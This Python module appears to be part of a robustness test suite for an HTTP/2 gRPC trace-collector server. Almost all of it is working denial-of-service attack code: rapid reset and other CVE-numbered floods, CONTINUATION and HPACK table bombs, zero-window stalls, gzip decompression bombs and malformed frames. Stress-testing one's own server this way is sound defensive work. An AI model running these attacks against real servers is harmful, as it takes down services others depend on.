"""Hostile clients of HTTP/2 (RFC 9113) and gRPC over it, which write their frames themselves."""

import gzip
import random
import struct
from collections.abc import Iterator

from _hostile_http import bomb, connects, garbage, idle, slow_head
from _hostile_link import TEXT, Attack, Link

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
HEADER_TABLE_SIZE, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 1, 3, 4, 5


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def settings(**values: int) -> bytes:
    """Return SETTINGS of these names."""
    pairs = (struct.pack(">HI", globals()[name.upper()], value) for name, value in values.items())
    return frame(SETTINGS, 0, 0, b"".join(pairs))


def length(size: int) -> bytes:
    """Return a string's length (RFC 7541, 5.1, prefix of 7 bits, no Huffman code)."""
    if size < 127:
        return bytes([size])
    out, rest = bytearray([127]), size - 127
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest])


def literal(name: bytes, value: bytes, how: int = 0) -> bytes:
    """Return a field (RFC 7541, 6.2); `how` 0x40 keeps it in the table."""
    return bytes([how]) + length(len(name)) + name + length(len(value)) + value


CALL = b"".join(
    literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/opentelemetry.proto.collector.trace.v1.TraceService/Export"),
        (b":authority", b"x"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)
PACKED_CALL = CALL + literal(b"grpc-encoding", b"gzip")


def odd_numbers() -> Iterator[int]:
    """Yield the streams that a client may open."""
    yield from range(1, 1 << 31, 2)


def opened(stream: int, *, more: bytes = b"") -> bytes:
    """Return the HEADERS of a call."""
    return frame(HEADERS, END_HEADERS, stream, CALL + more)


def message(size: int, body: bytes = b"", packed: int = 0) -> bytes:
    """Return a gRPC message, or the beginning of one that says it is larger."""
    return struct.pack(">BI", packed, size) + body


async def begun(link: Link, **values: int) -> None:
    """Begin a connection."""
    await link.send(PREFACE + settings(**values) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))


async def preface_only(link: Link) -> None:
    """Say that it is HTTP/2, then nothing."""
    await link.send(PREFACE)
    await link.wait()


async def settled(link: Link) -> None:
    """Begin a connection, then nothing."""
    await begun(link)
    await link.wait()


async def thousand_streams(link: Link) -> None:
    """Open a thousand calls, send nothing in any."""
    await begun(link)
    for stream, _ in zip(odd_numbers(), range(1000), strict=False):
        await link.send(opened(stream))
    await link.wait()


async def begun_messages(link: Link) -> None:
    """Open calls whose message says that it is 4 MiB, send 5 bytes of each."""
    await begun(link)
    for stream, _ in zip(odd_numbers(), range(100), strict=False):
        await link.send(opened(stream) + frame(DATA, 0, stream, message(4 << 20) + TEXT[:5]))
    await link.wait()


async def slow_messages(link: Link) -> None:
    """Calls whose message grows by a byte, each with as much padding as a frame holds."""
    await begun(link)
    streams = range(1, 200, 2)
    for stream in streams:
        await link.send(opened(stream) + frame(DATA, 0, stream, message(1 << 20)))
    while link.open:
        for stream in streams:
            await link.send(frame(DATA, PADDED, stream, b"\xff" + b"x" + bytes(255)))
        await link.wait(0.2)


async def lying_message(link: Link) -> None:
    """A message that says it is 4 GiB."""
    await begun(link)
    await link.send(opened(1) + frame(DATA, 0, 1, message(0xFFFFFFFF) + TEXT))
    await link.wait(2)


async def rapid_reset(link: Link) -> None:
    """Open and reset (CVE-2023-44487)."""
    await begun(link)
    streams = odd_numbers()
    while link.open:
        batch = (opened(s) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s, _ in zip(streams, range(200)))  # noqa: B905
        await link.send(b"".join(batch))


async def made_to_reset(link: Link) -> None:
    """Open and have the server reset, by WINDOW_UPDATE of 0 (CVE-2025-8671)."""
    await begun(link)
    streams = odd_numbers()
    while link.open:
        batch = (opened(s) + frame(WINDOW_UPDATE, 0, s, bytes(4)) for s, _ in zip(streams, range(200)))  # noqa: B905
        await link.send(b"".join(batch))


async def continued(link: Link) -> None:
    """A head that goes on in CONTINUATION without end (CVE-2024-27316)."""
    await begun(link)
    await link.send(frame(HEADERS, 0, 1, CALL))
    await link.again(frame(CONTINUATION, 0, 1, literal(b"x", TEXT) * 500))


async def empty_continued(link: Link) -> None:
    """The same with nothing in them."""
    await begun(link)
    await link.send(frame(HEADERS, 0, 1, CALL))
    await link.again(frame(CONTINUATION, 0, 1) * 1000)


async def huge_fields(link: Link) -> None:
    """Calls with a megabyte of fields."""
    await begun(link)
    for stream in range(1, 200, 2):
        if link.open:
            await link.send(frame(HEADERS, 0, stream, CALL))
            for _ in range(63):
                await link.send(frame(CONTINUATION, 0, stream, literal(b"x", b"y" * 16_000)))
            await link.send(frame(CONTINUATION, END_HEADERS, stream, literal(b"x", TEXT)))
    await link.wait(1)


async def table_bomb(link: Link) -> None:
    """A field of 3 kB in the table, asked for 16,000 times a call (CVE-2016-6581)."""
    await begun(link)
    await link.send(opened(1, more=literal(b"bomb", TEXT * 170, 0x40)))
    for stream in range(3, 200, 2):
        if link.open:
            await link.send(opened(stream, more=b"\xbe" * 16_000))
    await link.wait(1)


async def settings_flood(link: Link) -> None:
    """SETTINGS, each of which wants an answer (CVE-2019-9515)."""
    await begun(link)
    await link.again(settings(header_table_size=0) * 500 + settings(header_table_size=4096) * 500)


async def ping_flood(link: Link) -> None:
    """PING, whose answers nobody reads (CVE-2019-9512)."""
    await begun(link)
    link.deaf()
    await link.again(frame(PING, 0, 0, b"12345678") * 1000)


async def empty_data(link: Link) -> None:
    """DATA with nothing in it (CVE-2019-9518)."""
    await begun(link)
    await link.send(opened(1))
    await link.again(frame(DATA, 0, 1) * 1000)


async def priorities(link: Link) -> None:
    """PRIORITY of streams that there are not (CVE-2019-9513)."""
    await begun(link)
    await link.again(b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", s - 2, 1)) for s in range(3, 2003, 2)))


async def window_updates(link: Link) -> None:
    """WINDOW_UPDATE by a byte, over and over."""
    await begun(link)
    await link.send(opened(1))
    await link.again(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000)


async def window_overflow(link: Link) -> None:
    """Windows larger than may be."""
    await begun(link)
    await link.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF)) * 3)
    await link.wait(1)


async def no_window(link: Link) -> None:
    """Whole calls, for whose answers there is never a window (CVE-2019-9517)."""
    await begun(link, initial_window_size=0)
    for stream in odd_numbers():
        if not link.open:
            break
        await link.send(opened(stream) + frame(DATA, END_STREAM, stream, message(0)))
        if stream % 200 == 199:
            await link.wait(0.5)


async def never_reads(link: Link) -> None:
    """Whole calls, whose answers nobody reads from the socket."""
    await begun(link)
    link.deaf()
    for stream in odd_numbers():
        if not link.open:
            break
        await link.send(opened(stream) + frame(DATA, END_STREAM, stream, message(3, b"\xff\xff\xff")))


async def packed_bomb(link: Link) -> None:
    """A message of 1 MB that is a gigabyte."""
    await begun(link)
    packed = message(len(bomb("gzip")), bomb("gzip"), 1)
    await link.send(frame(HEADERS, END_HEADERS, 1, PACKED_CALL))
    for at in range(0, len(packed), 16_384):
        await link.send(frame(DATA, 0, 1, packed[at : at + 16_384]))
    await link.send(frame(DATA, END_STREAM, 1))
    await link.wait(5)


async def empty_records(link: Link) -> None:
    """Messages of 16 MiB of empty records, packed to a few kilobytes."""
    await begun(link)
    packed = gzip.compress(b"\x0a\x00" * (8 << 20))
    packed = message(len(packed), packed, 1)
    await link.send(frame(HEADERS, END_HEADERS, 1, PACKED_CALL))
    for at in range(0, len(packed), 16_384):
        await link.send(frame(DATA, 0, 1, packed[at : at + 16_384]))
    await link.send(frame(DATA, END_STREAM, 1))
    await link.wait(20)


async def odd_frames(link: Link) -> None:
    """Frames that break a rule each."""
    odd = (
        frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + CALL),
        frame(HEADERS, END_HEADERS, 0, CALL),
        frame(HEADERS, END_HEADERS, 2, CALL),
        frame(HEADERS, END_HEADERS, 5, CALL) + frame(HEADERS, END_HEADERS, 3, CALL),
        frame(DATA, 0, 9, TEXT),
        frame(RST_STREAM, 0, 9, struct.pack(">I", 8)),
        frame(SETTINGS, ACK, 0, TEXT),
        frame(SETTINGS, 0, 1, b""),
        settings(initial_window_size=0xFFFFFFFF),
        settings(max_frame_size=1),
        frame(PING, 0, 0, TEXT),
        frame(GOAWAY, 0, 0, struct.pack(">II", 0, 11) + TEXT * 500),
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(CONTINUATION, END_HEADERS, 1, CALL),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 100),
        frame(HEADERS, END_HEADERS, 1, literal(b":path", TEXT)),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, CALL.replace(b"POST", b"HEAD")),
        frame(HEADERS, END_HEADERS | END_STREAM, 1, CALL.replace(b"TraceService/Export", TEXT.ljust(19, b"-"))),
        frame(0x77, 0xFF, 0x7FFFFFFF, TEXT),
        b"\xff\xff\xff" + frame(DATA, 0, 1, TEXT)[3:],
    )
    await begun(link)
    await link.send(random.choice(odd))  # noqa: S311 -- no secret
    await link.wait(0.5)


async def http1(link: Link) -> None:
    """HTTP/1.1 where HTTP/2 is spoken."""
    await link.send(b"POST /" + TEXT + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    await link.wait(1)


ATTACKS = {
    "h2: idle": Attack(idle, 3000, "grpc"),
    "h2: connects": Attack(connects, 16, "grpc", reset=True),
    "h2: preface only": Attack(preface_only, 1000, "grpc"),
    "h2: settings only": Attack(settled, 1000, "grpc"),
    "h2: slow HTTP/1 head": Attack(slow_head, 500, "grpc"),
    "h2: HTTP/1": Attack(http1, 16, "grpc"),
    "h2: garbage": Attack(garbage, 16, "grpc"),
    "h2: a thousand streams": Attack(thousand_streams, 64, "grpc"),
    "h2: begun messages": Attack(begun_messages, 64, "grpc"),
    "h2: slow messages": Attack(slow_messages, 32, "grpc"),
    "h2: message of 4 GiB": Attack(lying_message, 64, "grpc"),
    "h2: rapid reset": Attack(rapid_reset, 4, "grpc"),
    "h2: made to reset": Attack(made_to_reset, 4, "grpc"),
    "h2: CONTINUATION": Attack(continued, 8, "grpc"),
    "h2: empty CONTINUATION": Attack(empty_continued, 8, "grpc"),
    "h2: fields of 1 MB": Attack(huge_fields, 8, "grpc"),
    "h2: table bomb": Attack(table_bomb, 8, "grpc"),
    "h2: SETTINGS": Attack(settings_flood, 4, "grpc"),
    "h2: PING": Attack(ping_flood, 4, "grpc"),
    "h2: empty DATA": Attack(empty_data, 4, "grpc"),
    "h2: PRIORITY": Attack(priorities, 4, "grpc"),
    "h2: WINDOW_UPDATE": Attack(window_updates, 4, "grpc"),
    "h2: window overflow": Attack(window_overflow, 16, "grpc"),
    "h2: no window": Attack(no_window, 16, "grpc"),
    "h2: never reads": Attack(never_reads, 8, "grpc"),
    "h2: gzip bomb": Attack(packed_bomb, 8, "grpc"),
    "h2: empty records": Attack(empty_records, 4, "grpc"),
    "h2: odd frames": Attack(odd_frames, 64, "grpc"),
}
